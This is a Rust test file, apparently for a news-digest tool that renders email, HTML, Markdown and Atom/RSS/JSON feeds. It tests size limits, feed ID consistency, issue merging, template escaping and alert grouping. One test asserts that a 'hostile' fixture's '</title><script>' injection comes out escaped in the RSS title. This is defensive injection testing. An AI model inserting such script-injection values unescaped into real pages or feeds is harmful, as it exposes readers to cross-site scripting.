    let text = "Ships of the alliance came in spring and in autumn, as they do in most years. The fleet of the alliance leaves \
                the port of Poti after long repairs.";
    archive.reports = vec![
        Made::new(1, "a", "en", "2026-11-21T05:00:00Z")
            .text("Fleet leaves Poti after repairs", text)
            .tag("nato", 6.0, &["Ships of the alliance", "fleet of the alliance"])
            .report(),
    ];
    let digest = archive.digest();
    let [quote] = &digest.groups[0].sections[0].stories.items[0].quotes[..] else { panic!("one sentence") };
    assert_eq!(quote.sentence.text, "The fleet of the alliance leaves the port of Poti after long repairs.");
}

#[test]
fn a_mail_is_kept_below_what_services_show_whole() {
    let mut archive = Archive::empty();
    let word = "слово ".repeat(60);
    let topics = ["nato", "nato-itpp", "nato-office", "peace", "black-sea", "iran"];
    archive.reports = (1..=400_u64)
        .zip(topics.iter().cycle())
        .map(|(n, topic)| {
            let text = format!("Сообщение НАТО {n} {word}.");
            Made::new(n, &format!("s{}", n % 40), "ru", "2026-11-21T05:00:00Z")
                .text(&format!("Заголовок {n} {word}"), &text)
                .tag(topic, 2.0, &["НАТО"])
                .report()
        })
        .collect();
    let message = rendered(&archive.digest());
    let html = message.html.as_deref().unwrap();
    assert!(message.text.len() + html.len() <= 95_000, "{} + {} bytes", message.text.len(), html.len());
    assert!(message.text.contains("Shortened to"), "{}", &message.text[..500]);
    // The files have all that the limits of a digest let through.
    assert!(body(&message, Format::Html).len() > html.len());
    assert!(!body(&message, Format::Text).contains("Shortened to"));
}

#[test]
fn the_other_feeds_have_the_ids_of_the_atom_feed() {
    let message = rendered(&Archive::sample().digest());
    let feed: serde_json::Value = serde_json::from_str(body(&message, Format::JsonFeed)).unwrap();
    assert_eq!(feed["version"], "https://jsonfeed.org/version/1.1");
    let [atom, rss, read] = [Format::Atom, Format::Rss, Format::JsonFeed]
        .map(|it| feed_rs::parser::parse(body(&message, it).as_bytes()).unwrap());
    let ids = |it: &feed_rs::model::Feed| it.entries.iter().map(|it| it.id.clone()).collect::<Vec<_>>();
    assert_eq!((ids(&read), ids(&rss)), (ids(&atom), ids(&atom)));
    assert_eq!(read.entries.len(), feed["items"].as_array().unwrap().len());
    assert!(read.entries.iter().all(|it| it.updated.is_some() && it.content.is_some()));
    let said = |it: &feed_rs::model::Feed| {
        let entry = |it: &feed_rs::model::Entry| {
            let text = |it: &feed_rs::model::Text| it.content.clone();
            let content = it.content.as_ref().and_then(|it| it.body.clone());
            let links = it.links.iter().map(|it| it.href.clone()).collect::<Vec<_>>();
            let authors = it.authors.iter().map(|it| it.name.clone()).collect::<Vec<_>>();
            (
                it.title.as_ref().map(text),
                content.or_else(|| it.summary.as_ref().map(text)),
                links,
                authors,
                it.published,
            )
        };
        it.entries.iter().map(entry).collect::<Vec<_>>()
    };
    assert_eq!(said(&rss), said(&atom));
    let hostile = rendered(&hostile().digest());
    let [atom, rss] = [Format::Atom, Format::Rss].map(|it| body(&hostile, it));
    assert!(rss.contains("<title>&#x3C;/title&gt;&#x3C;script&gt;"), "readers take other references for HTML");
    let [atom, rss] = [atom, rss].map(|it| feed_rs::parser::parse(it.as_bytes()).unwrap());
    // In the name of an outlet that has an address the two parsers see different authors.
    let titles = |it: &feed_rs::model::Feed| said(it).into_iter().map(|it| (it.0, it.1, it.2)).collect::<Vec<_>>();
    assert!(ids(&rss) == ids(&atom) && titles(&rss) == titles(&atom));
}

#[test]
fn a_feed_keeps_the_entries_of_earlier_issues() {
    let mut made: Vec<_> = ["2026-11-20", "2026-11-21", "2026-11-23"]
        .iter()
        .zip([hostile(), Archive::sample(), Archive::empty()])
        .map(|(day, archive)| rendered(&Digest { issued_at: at(&format!("{day}T04:00:07Z")), ..archive.digest() }))
        .collect();
    for format in [Format::Atom, Format::Rss, Format::JsonFeed] {
        let issues: Vec<_> = made
            .iter_mut()
            .map(|it| it.documents.iter().find(|it| it.media_type == format.media_type()).cloned().unwrap())
            .collect();
        let ids = |body: &str| {
            let feed = feed_rs::parser::parse(body.as_bytes()).unwrap();
            let ids = feed.entries.into_iter().map(|it| it.id).collect::<Vec<_>>();
            (feed.updated, ids)
        };
        let join = |held: &str, n: usize| render::joined(&issues[n], held).unwrap_or_else(|| issues[n].body.clone());
        let [old, new, none] = [0, 1, 2].map(|it| ids(&issues[it].body).1);
        assert!(none.is_empty() && new.iter().any(|it| old.contains(it)), "the second tells a story of the first anew");
        let all = join(&join("", 0), 1);
        let only_old = old.iter().filter(|it| !new.contains(it));
        assert_eq!(ids(&all).1, new.iter().chain(only_old).cloned().collect::<Vec<_>>(), "the newer first");
        // Whatever is sent late or again, and what is no feed of ours is replaced.
        assert_eq!([join(&all, 0), join(&all, 1), join(&join("", 1), 0)], [all.clone(), all.clone(), all.clone()]);
        for held in ["", "{}", "<feed/>", &issues[1].body[..issues[1].body.len() - 9], &all.replace("-11-", "-xx-")] {
            assert_eq!(join(held, 1), issues[1].body);
        }
        let after = join(&all, 2);
        assert_eq!(ids(&after).1, ids(&all).1);
        assert_eq!(ids(&after).0, ids(&issues[2].body).0);
        // A month later there is nothing of it left.
        let later = Digest { issued_at: at("2026-12-25T04:00:00Z"), ..Archive::empty().digest() };
        let later = rendered(&later).documents.into_iter().find(|it| it.media_type == format.media_type()).unwrap();
        assert_eq!(render::joined(&later, &after), Some(later.body));
    }
    let page = made.remove(0).documents.remove(0);
    assert_eq!(render::joined(&page, &page.body), None);
}

#[test]
fn a_template_of_the_user_s_own_is_used_and_escapes() {
    let own = |name: &str, text: &str| {
        Templates::new(&[(name.to_owned(), text.to_owned())]).map_err(|it| (it.line, it.problem))
    };
    let mut archive = Archive::sample();
    archive.title = "<b>A & *B*</b>".to_owned();
    let digest = archive.digest();
    let made = |templates: &Templates, format| {
        let look = Look { templates, domain: "desk.example", files: &FileNames::default() };
        render::digest(&digest, &[format], look).unwrap().documents.remove(0).body
    };
    let page = own("digest.html", "{% autoescape false %}<p>{{ title }}</p>{% endautoescape %}").unwrap();
    assert_eq!(made(&page, Format::Html), "<p>&lt;b&gt;A &amp; *B*&lt;/b&gt;</p>");
    assert!(made(&page, Format::Text).starts_with("<b>A & *B*</b>\nSat"), "the others are as they were");
    let markdown = own("digest.md", "# {{ title }}").unwrap();
    assert_eq!(made(&markdown, Format::Markdown), "# \\<b\\>A \\& \\*B\\*\\</b\\>\n");
}

#[test]
fn a_template_that_fails_on_a_digest_is_replaced_and_the_digest_says_so() {
    // It goes well in the trial, whose title is another.
    let text = "{% if title == 'South Caucasus daily' %}\n{{ nowhere.x }}{% endif %}";
    let templates = Templates::new(&[("digest.txt".to_owned(), text.to_owned())]).unwrap();
    let digest = Archive::sample().digest();
    let look = Look { templates: &templates, domain: "desk.example", files: &FileNames::default() };
    let text = render::digest(&digest, &[], look).unwrap().text;
    assert!(text.starts_with("South Caucasus daily\n") && text.contains("What did not work\n="), "{text}");
    let note = "* The template digest.txt of the configuration failed at line 2 (undefined value: `nowhere` is undefined): the built-in one was used.";
    assert!(text.contains(note), "{text}");
}

/// What a digest leaves out for want of room has been found all the same.
#[test]
fn all_that_was_found_counts_and_not_only_what_is_shown() {
    let mut archive = with_a_month_before();
    let mut many = archive.alerts[0].clone();
    let hit = many.hits[0].clone();
    many.hits.extend((1..8).map(|n| Hit { term: format!("term {n}"), form: format!("form {n}"), ..hit.clone() }));
    // Two terms of one form: shown once.
    many.hits.push(Hit { term: "another".to_owned(), ..hit });
    archive.alerts = vec![many];
    let digest = archive.digest();
    assert_eq!(digest.alerts.items[0].hits.items.len(), 3);
    let mentioned: Vec<_> = digest.first_mentions.items.iter().map(|it| it.term.as_str()).collect();
    let expected = ["Винников", "term 1", "term 2", "term 3", "term 4", "term 5", "term 6", "term 7", "another"];
    assert_eq!(mentioned, expected);
    // A watch that fired for a story that these people do not read is not quiet.
    archive.audience = Audience { languages: vec!["en".to_owned()], ..Audience::default() };
    let digest = archive.digest();
    assert_eq!(digest.alerts.total(), 0);
    let quiet: Vec<_> = digest.quiet_watches.items.iter().map(|it| it.name.as_str()).collect();
    assert_eq!(quiet, ["Border", "Never <b>"]);
}

#[test]
fn watches_that_found_something_in_one_report_are_one_entry() {
    let mut archive = Archive::sample();
    let sentence = "Переговоры с Даниэлем Винниковым, главой офиса связи НАТО, длились два часа.";
    let other = alert(0xa2, "Liaison office", 3, "2026-11-21T12:06:00Z", ("офис связи", "офиса связи НАТО", sentence));
    let spike =
        Alert { id: AlertId(0xa3), kind: AlertKind::Spike { today: 9, usual: 1.0 }, ..archive.alerts[0].clone() };
    archive.alerts.extend([other, spike]);
    let message = rendered(&archive.digest());
    let text = body(&message, Format::Text);
    // The sentence stands once, with both marked; the spike tells of a watch, and stands by itself.
    assert!(text.contains("! [Liaison office, Vinnikov] В Тбилиси обсудили работу офиса связи\n"), "{text}");
    assert!(text.contains("> Переговоры с Даниэлем *Винниковым*, главой *офиса связи НАТО*, длились"), "{text}");
    assert_eq!(text.matches("! [").count(), 2, "{text}");
    let page = body(&message, Format::Html);
    assert_eq!(page.matches("class=\"watch\"").count(), 3);
    // For programs each alert is one, with its id.
    let record: serde_json::Value = serde_json::from_str(body(&message, Format::Json)).unwrap();
    assert_eq!(record["alerts"].as_array().unwrap().len(), 3);
    // Readers of feeds see one entry for the alerts of the report, one for its story, and one for the spike.
    let feed = body(&message, Format::Atom);
    assert_eq!(feed.matches(":sitrepd/alert/").count(), 2, "{feed}");
    let title = "Alert Liaison office, Vinnikov: В Тбилиси обсудили работу офиса связи</title>";
    assert_eq!((feed.matches(title).count(), feed.matches("обсудили работу офиса связи</title>").count()), (1, 2));
    assert!(feed.contains("Alert Vinnikov: a spike: 9 alerts in the last 24 hours"), "{feed}");
}

#[test]
fn stories_without_a_topic_stand_in_the_feeds() {
    let mut archive = Archive::sample();
    for report in &mut archive.reports {
        report.tags.clear();
    }
    archive.topics.clear();
    let digest = archive.digest();
    assert_eq!((digest.others.items.len(), digest.groups.len()), (10, 0));
    let message = rendered(&digest);
    let feed = feed_rs::parser::parse(body(&message, Format::Atom).as_bytes()).unwrap();
    let stories: Vec<_> = feed.entries.iter().filter(|it| it.id.contains(":sitrepd/story/")).collect();
    assert_eq!(stories.len(), 10);
    assert!(stories.iter().all(|it| it.links.len() == 1 && it.content.is_some() && it.title.is_some()));
    // Their ids are those that they have under a topic.
    let with_topics = rendered(&Archive::sample().digest());
    let with_topics = feed_rs::parser::parse(body(&with_topics, Format::Atom).as_bytes()).unwrap();
    let ids = |feed: &feed_rs::model::Feed| feed.entries.iter().map(|it| it.id.clone()).collect::<BTreeSet<_>>();
    assert_eq!(ids(&feed), ids(&with_topics));
}
